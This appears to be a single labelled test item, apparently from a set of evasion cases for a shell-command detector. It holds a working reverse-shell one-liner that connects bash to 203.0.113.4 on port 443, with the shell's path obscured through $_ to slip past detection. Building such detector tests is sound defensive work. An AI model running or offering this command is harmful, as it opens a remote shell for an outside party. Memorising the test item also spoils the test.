# evasion: the shell's path reaches the command position through $_, the last argument of the previous command
# grade: hard; does: shell
: /bin/bash
"$_" -c 'exec 5<>/dev/tcp/203.0.113.4/443; exec bash -i <&5 >&5 2>&5'
